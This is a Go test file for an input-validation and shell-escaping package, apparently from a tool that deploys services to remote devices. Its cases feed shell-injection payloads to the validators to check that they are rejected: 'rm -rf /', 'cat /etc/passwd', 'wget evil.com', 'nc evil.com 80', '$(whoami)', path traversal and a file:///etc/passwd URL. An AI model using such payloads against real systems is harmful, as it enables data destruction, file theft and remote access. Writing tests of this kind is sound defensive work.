package security

import (
	"strings"
	"testing"
)

func TestValidateServiceName(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid underscore", "pion_server", false},
		{"valid hyphen", "pion-server", false},
		{"valid template instance", "pion@drone1", false},
		{"valid single char", "a", false},
		{"empty", "", true},
		{"with suffix", "pion_server.service", true},
		{"starts with hyphen", "-pion", true},
		{"space", "pion server", true},
		{"injection attempt", "pion;rm -rf /", true},
		{"injection backtick", "pion`id`", true},
		{"too long", strings.Repeat("a", 129), true},
		{"max length", strings.Repeat("a", 128), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateServiceName(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateServiceName(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateHostName(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid simple", "drone1", false},
		{"valid with hyphens", "radxa-zero", false},
		{"valid with underscores", "pi_zero", false},
		{"valid mixed case", "DroneA", false},
		{"empty", "", true},
		{"starts with underscore", "_drone", true},
		{"injection attempt", "drone;rm -rf /", true},
		{"space", "my drone", true},
		{"too long", strings.Repeat("a", 65), true},
		{"max length", strings.Repeat("a", 64), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateHostName(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateHostName(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateUnixUser(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid simple", "pi", false},
		{"valid with underscore prefix", "_svc", false},
		{"valid with numbers", "radxa2", false},
		{"empty", "", true},
		{"uppercase", "Pi", true},
		{"starts with number", "1pi", true},
		{"injection", "pi;id", true},
		{"too long", strings.Repeat("a", 33), true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateUnixUser(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateUnixUser(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidatePackageName(t *testing.T) {
	tests := []struct {
		input   string
		wantErr bool
	}{
		{"python3", false},
		{"python3-pip", false},
		{"libstdc++6", false},
		{"g++", false},
		{"", true},
		{"git;id", true},
		{"-y", true},
		{"Python3", true},
	}

	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			err := ValidatePackageName(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidatePackageName(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateInterpreter(t *testing.T) {
	tests := []struct {
		input   string
		wantErr bool
	}{
		{"python3", false},
		{"python3.11", false},
		{"/usr/bin/python3", false},
		{"/opt/conda/bin/python", false},
		{"", true},
		{"python3 -c 'import os'", true},
		{"python3;id", true},
		{"/usr/bin/../../bin/sh", true},
		{"-m", true},
	}

	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			err := ValidateInterpreter(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateInterpreter(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateRemotePath(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"relative", "code/sPion", false},
		{"absolute", "/opt/pion", false},
		{"dotfile", ".venv", false},
		{"empty", "", true},
		{"traversal", "code/../../etc", true},
		{"space", "my code", true},
		{"substitution", "code/$(id)", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateRemotePath(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateRemotePath(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateFetchURL(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"https", "https://github.com/OnisOris/sPion.git", false},
		{"ssh", "ssh://git@github.com/OnisOris/sPion.git", false},
		{"empty", "", true},
		{"file scheme", "file:///etc/passwd", true},
		{"no host", "https://", true},
		{"plain word", "sPion", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateFetchURL(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateFetchURL(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestShellEscape(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		expected string
	}{
		{"empty string", "", "''"},
		{"simple string", "hello", "'hello'"},
		{"with spaces", "hello world", "'hello world'"},
		{"with single quotes", "it's", "'it'\\''s'"},
		{"with double quotes", `say "hello"`, `'say "hello"'`},
		{"with backticks", "echo `id`", "'echo `id`'"},
		{"with dollar paren", "echo $(id)", "'echo $(id)'"},
		{"with newline", "line1\nline2", "'line1\nline2'"},
		{"with semicolon", "cmd1; cmd2", "'cmd1; cmd2'"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ShellEscape(tt.input)
			if got != tt.expected {
				t.Errorf("ShellEscape(%q) = %q, want %q", tt.input, got, tt.expected)
			}
		})
	}
}

func TestRedactSecret(t *testing.T) {
	got := RedactSecret("echo hunter2 | sudo -S true; echo hunter2", "hunter2")
	if strings.Contains(got, "hunter2") {
		t.Errorf("RedactSecret() left the secret in %q", got)
	}
	if strings.Count(got, "****") != 2 {
		t.Errorf("RedactSecret() = %q, want both occurrences masked", got)
	}

	if got := RedactSecret("unchanged", ""); got != "unchanged" {
		t.Errorf("RedactSecret() with empty secret = %q, want input unchanged", got)
	}
}

func TestSanitizeCommandForLog(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		secrets  []string
		contains string // substring that should NOT be present
		masked   bool   // true if the output should contain ****
	}{
		{
			"masks PASSWORD assignment",
			"ROOT_PASSWORD=mysecretpass ./setup.sh",
			nil,
			"mysecretpass",
			true,
		},
		{
			"masks quoted TOKEN",
			"GITHUB_TOKEN='ghp_abc def' git clone",
			nil,
			"ghp_abc",
			true,
		},
		{
			"masks explicit secret",
			"echo raspberry | sudo -S systemctl start pion_server",
			[]string{"raspberry"},
			"raspberry",
			true,
		},
		{
			"leaves plain commands untouched",
			"systemctl daemon-reload",
			nil,
			"",
			false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := SanitizeCommandForLog(tt.input, tt.secrets...)
			if tt.masked && !strings.Contains(result, "****") {
				t.Errorf("expected masked output to contain '****', got %q", result)
			}
			if !tt.masked && result != tt.input {
				t.Errorf("expected unchanged output %q, got %q", tt.input, result)
			}
			if tt.contains != "" && strings.Contains(result, tt.contains) {
				t.Errorf("sanitized output should not contain %q, got %q", tt.contains, result)
			}
		})
	}
}

// Test injection attempts that could bypass validation
func TestInjectionAttempts(t *testing.T) {
	injectionPayloads := []string{
		"test;rm -rf /",
		"test && cat /etc/passwd",
		"test || wget evil.com",
		"test`id`",
		"test$(whoami)",
		"test\nmalicious",
		"test\rmalicious",
		"test|nc evil.com 80",
		"test>/etc/passwd",
	}

	t.Run("ServiceName blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateServiceName(payload); err == nil {
				t.Errorf("ValidateServiceName should reject: %q", payload)
			}
		}
	})

	t.Run("HostName blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateHostName(payload); err == nil {
				t.Errorf("ValidateHostName should reject: %q", payload)
			}
		}
	})

	t.Run("RemotePath blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateRemotePath(payload); err == nil {
				t.Errorf("ValidateRemotePath should reject: %q", payload)
			}
		}
	})
}
